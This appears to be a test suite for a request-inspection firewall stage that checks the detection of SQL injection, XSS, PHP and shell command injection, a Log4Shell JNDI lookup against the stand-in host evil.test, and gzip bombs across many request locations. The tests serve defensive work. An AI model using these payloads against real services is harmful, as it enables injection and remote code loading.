import { gzipSync } from 'node:zlib'
import t from 'tap'
import type { Exchange } from '../../src/stages/contract.js'
import { reasons } from '../../src/stages/inspect/reasons.js'
import { json, inspectStage as stageOf } from '../support/inspect-stage.js'

const attack = "x' OR 'a'='a"

t.test('every place a caller can write to is inspected', async (t) => {
  const { judge } = stageOf('{}')
  const encoded = encodeURIComponent(attack)
  const rows: readonly [string, Partial<Omit<Exchange, 'headers' | 'rawHeaders'>> & { headers?: string[] }, string][] =
    [
      ['a path parameter', { params: { id: encoded } }, 'path:/id'],
      ['a segment of the rest of a path', { params: { rest: `v1/${encoded}/x` } }, 'path:/rest'],
      ['a query value', { query: `a=1&q=${encoded}` }, 'query:/q'],
      ['a repeated query value', { query: `q=ok&q=${encoded}&q=ok` }, 'query:/q'],
      ['a query name', { query: `${encoded}=1` }, `query:/${attack}`],
      ['any header', { headers: ['X-Name', attack] }, 'header:/x-name'],
      ['the user agent', { headers: ['User-Agent', attack] }, 'header:/user-agent'],
      ['one cookie of several', { headers: ['Cookie', `a=b; theme=${encoded}`] }, 'cookie:/theme'],
      ['a JSON string', json({ note: attack }), 'body:/note'],
      ['a JSON string in a list', json({ lines: [{ sku: 'a' }, { sku: attack }] }), 'body:/lines/1/sku'],
      ['a JSON key', json({ [attack]: 1 }), `body:/${attack}`],
      ['a JSON text that is one string', json(attack), 'body:'],
      ['a form field', { content: { kind: 'form', fields: [{ name: 'n', value: attack }] } }, 'body:/n'],
      ['a form field’s name', { content: { kind: 'form', fields: [{ name: attack, value: '' }] } }, `body:/${attack}`],
      [
        'a multipart text',
        {
          content: {
            kind: 'multipart',
            parts: [{ name: 'p', fileName: null, contentType: null, text: attack, bytes: 9 }],
          },
        },
        'body:/p',
      ],
      [
        'a file name',
        {
          content: {
            kind: 'multipart',
            parts: [{ name: 'p', fileName: attack, contentType: null, text: null, bytes: 9 }],
          },
        },
        'body:/p',
      ],
      ['an XML text', { content: { kind: 'xml', values: [{ at: '/order/note', text: attack }] } }, 'body:/order/note'],
      ['a plain text', { content: { kind: 'text', text: attack } }, 'body:'],
    ]
  for (const [name, changed, at] of rows) {
    const denial = judge(changed)
    t.equal(denial?.reason.code, 'inspect.sqli', name)
    t.equal(denial?.evidence['at'], at, `${name}: its place`)
  }
})

t.test('the same places with harmless text pass', async (t) => {
  const { judge } = stageOf('{}')
  t.equal(judge({ params: { id: 'O%27Brien' }, query: 'q=tom+%26+jerry', ...json({ note: "It's fine" }) }), null)
  t.equal(judge({ headers: ['Cookie', 'a=b; theme=dark', 'User-Agent', 'acme-sdk/2.4.1 (node 20; linux)'] }), null)
  t.equal(judge({ headers: ['Host', attack] }), null, 'the front door has judged the host')
  t.equal(judge({ content: { kind: 'opaque' } }), null)
  t.equal(judge({}), null)
})

t.test('a denial tells the operator all and the caller nothing', async (t) => {
  const denial = stageOf('{}').judge(json({ note: 'secret words before %27%20OR%20%27a%27%3D%27a' }))
  t.equal(denial?.reason.status, 403)
  t.equal(denial?.reason.shown, 'inspect.denied')
  t.equal(denial?.headers, undefined)
  t.match(denial?.evidence, { detector: 'sqli', technique: /\w/, at: 'body:/note', decoded: 'percent' })
  t.match(String(denial?.evidence['excerpt']), /^.{1,6}\*{4}$/)
  t.notMatch(JSON.stringify(denial?.evidence), /secret/, 'the value is never recorded whole')
})

t.test('a denial carries the exception that would lift it', async (t) => {
  const denial = stageOf('{}').judge(json({ lines: [{ note: attack }] }))
  t.equal(
    denial?.evidence['exception'],
    'sqli-body-lines-note: { rule: sqli, at: "body:/lines/*/note", owner: WHO, until: YYYY-MM-DD }',
  )
})

t.test('control characters never reach the record', async (t) => {
  const denial = stageOf('{}').judge(json({ 'a\u001b[31m\nb': '\u001b\n; whoami' }))
  t.notMatch(JSON.stringify(denial), /\\u001b|\\n/)
  t.ok(denial)
})

t.test('a JSON text inside a value is named with the place inside it', async (t) => {
  const denial = stageOf('{}').judge(json({ payload: JSON.stringify({ a: { b: [attack] } }) }))
  t.match(denial?.evidence, { at: 'body:/payload', inside: '/a/b/0', decoded: 'json' })
})

t.test('inspection is on where nothing is written, and off only by word', async (t) => {
  t.match(stageOf('{}').planned, [{ slot: 'inspect', mode: 'enforce', needsBody: true }])
  t.match(stageOf('inspect: { mode: report }').planned, [{ mode: 'report' }])
  t.same(stageOf('inspect: { mode: off }').planned, [])
  t.match(stageOf('inspect: { profile: event }').planned, [{ settings: { profile: 'event' } }])
})

t.test('the strict profile counts weak signs in long texts too', async (t) => {
  const text = `${'Please look at this for me when you have the time, it is the thing we have. '.repeat(6)}; id`
  t.equal(stageOf('{}').judge(json({ note: text })), null)
  t.equal(stageOf('inspect: { profile: strict }').judge(json({ note: text }))?.reason.code, 'inspect.os-command')
})

t.test('one detector may only report, or be left out, while the others deny', async (t) => {
  const { planned, judge, judgeBy } = stageOf('inspect: { detectors: { sqli: report, xss: off, code: enforce } }')
  t.match(planned, [{ mode: 'enforce' }, { mode: 'report', settings: { part: 'reported' } }])
  t.equal(judge(json({ note: attack })), null, 'the step that denies lets it pass')
  t.equal(judgeBy(1, json({ note: attack }))?.reason.code, 'inspect.sqli', 'the step that reports names it')
  t.equal(judge(json({ note: '<script>alert(1)</script>' })), null)
  t.equal(judgeBy(1, json({ note: '<script>alert(1)</script>' })), null, 'what is left out is not even reported')
  t.equal(judge(json({ note: '<?php system("id");' }))?.reason.code, 'inspect.code')
  t.equal(judgeBy(1, json({ note: '<?php system("id");' })), null)
  const nested = Buffer.from(
    Array.from({ length: 9 }).reduce<string>((text) => Buffer.from(text).toString('base64'), 'a text of some length'),
  )
  t.equal(judge(json({ note: nested.toString() }))?.reason.code, 'inspect.encoding')
  const lenient = stageOf('inspect: { detectors: { encoding: report } }')
  t.equal(lenient.judge(json({ note: nested.toString() })), null)
  t.equal(lenient.judgeBy(1, json({ note: nested.toString() }))?.reason.code, 'inspect.encoding')
})

t.test('an exception lifts one detector at one place', async (t) => {
  const { judge, findings } = stageOf(
    'inspect: { exceptions: { note: { rule: sqli, at: "body:/note", owner: orders, until: 2026-07-01 } } }',
  )
  t.same(
    findings.filter(({ severity }) => severity !== 'warning'),
    [],
  )
  t.equal(judge(json({ note: attack })), null)
  t.equal(judge(json({ title: attack }))?.reason.code, 'inspect.sqli', 'not at another place')
  t.equal(judge(json({ note: '<script>alert(1)</script>' }))?.reason.code, 'inspect.xss', 'not another detector')
  t.equal(judge({ query: `note=${encodeURIComponent(attack)}` })?.reason.code, 'inspect.sqli', 'not another source')
})

t.test('a star in an exception stands for any item or key', async (t) => {
  const { judge } = stageOf(
    'inspect: { exceptions: { sku: { rule: sqli, at: "body:/lines/*/note", owner: orders, until: 2099-01-01 } } }',
  )
  t.equal(judge(json({ lines: [{ note: 'a' }, { note: attack }] })), null)
  t.ok(judge(json({ lines: [{ other: attack }] })))
})

t.test('an exception holds through its last day and not a moment longer', async (t) => {
  const made = stageOf(
    'inspect: { exceptions: { note: { rule: sqli, at: "body:/note", owner: orders, until: 2026-07-01 } } }',
  )
  made.setTime('2026-07-01T23:59:59.999Z')
  t.equal(made.judge(json({ note: attack })), null)
  made.setTime('2026-07-02T00:00:00.000Z')
  t.ok(made.judge(json({ note: attack })))
})

t.test('an exception that has ended, or ends on no day, is reported at its line', async (t) => {
  const ended = stageOf('inspect: { exceptions: { old: { rule: xss, at: "body:/a", owner: ana, until: 2020-01-31 } } }')
  t.match(ended.findings, [{ code: 'inspect.exception-expired', severity: 'warning', hint: /ana/ }])
  const never = stageOf('inspect: { exceptions: { odd: { rule: xss, at: "body:/a", owner: ana, until: 2026-02-30 } } }')
  t.match(never.findings, [{ code: 'inspect.until-unreadable', message: /2026-02-30/ }])
})

t.test('a field that holds code, HTML or SQL is judged as that', async (t) => {
  const { judge } = stageOf('inspect: { fields: { "body:/code": code, "body:/page": html, "body:/query": sql } }')
  t.equal(judge(json({ code: "system('id'); // <script>alert(1)</script>" })), null)
  t.equal(judge(json({ page: '<script>alert(1)</script>' })), null)
  t.equal(judge(json({ query: 'SELECT * FROM users WHERE id = 1 OR 1=1' })), null)
  t.ok(judge(json({ page: attack })), 'HTML is no SQL')
  t.ok(judge(json({ code: '${jndi:ldap://evil.test/a}' })), 'no text needs a lookup')
})

t.test('what the schema pins is not inspected; what it leaves free is', async (t) => {
  const schema = {
    type: 'object',
    properties: {
      kind: { enum: ["x' OR 'a'='a", 'b'] },
      when: { type: 'string', format: 'date-time' },
      code: { type: 'string', pattern: '^[A-Z]{2}-[0-9]{4}$' },
      note: { type: 'string', maxLength: 500 },
      lines: { type: 'array', items: { type: 'object', properties: { sku: { $ref: '#/$defs/sku' } } } },
    },
    $defs: { sku: { type: 'string', pattern: '^[a-z0-9-]{1,20}$' } },
  }
  const { judge, planned } = stageOf('request: { body: ./order.json, query: { page: { type: integer } } }', {
    'order.json': JSON.stringify(schema),
  })
  t.match(planned[0]?.settings.pinned, ['query:/page', 'body:/kind', 'body:/when', 'body:/code', 'body:/lines/*/sku'])
  t.equal(judge(json({ kind: attack, lines: [{ sku: attack }] })), null)
  t.ok(judge(json({ note: attack })))
  const reported = stageOf('request: { mode: report, query: { page: { type: integer } } }')
  t.same(reported.planned[0]?.settings.pinned, [], 'a schema that is not enforced pins nothing')
})

t.test('many small bombs in one request are refused as one big one is', async (t) => {
  const bomb = gzipSync(Buffer.alloc(512 * 1024, 97)).toString('base64')
  const { judge } = stageOf('{}')
  t.equal(judge(json({ a: bomb })), null)
  t.equal(judge(json({ list: Array.from({ length: 40 }, () => bomb) }))?.reason.code, 'inspect.encoding')
  t.equal(judge(json({ a: bomb })), null, 'each request has a budget of its own')
})

t.test('every code is stable, coarse for callers and spoken of in one sentence', async (t) => {
  for (const [name, reason] of Object.entries(reasons)) {
    t.match(reason, { code: `inspect.${name}`, status: 403, shown: 'inspect.denied', sentence: /\.$/ })
  }
})
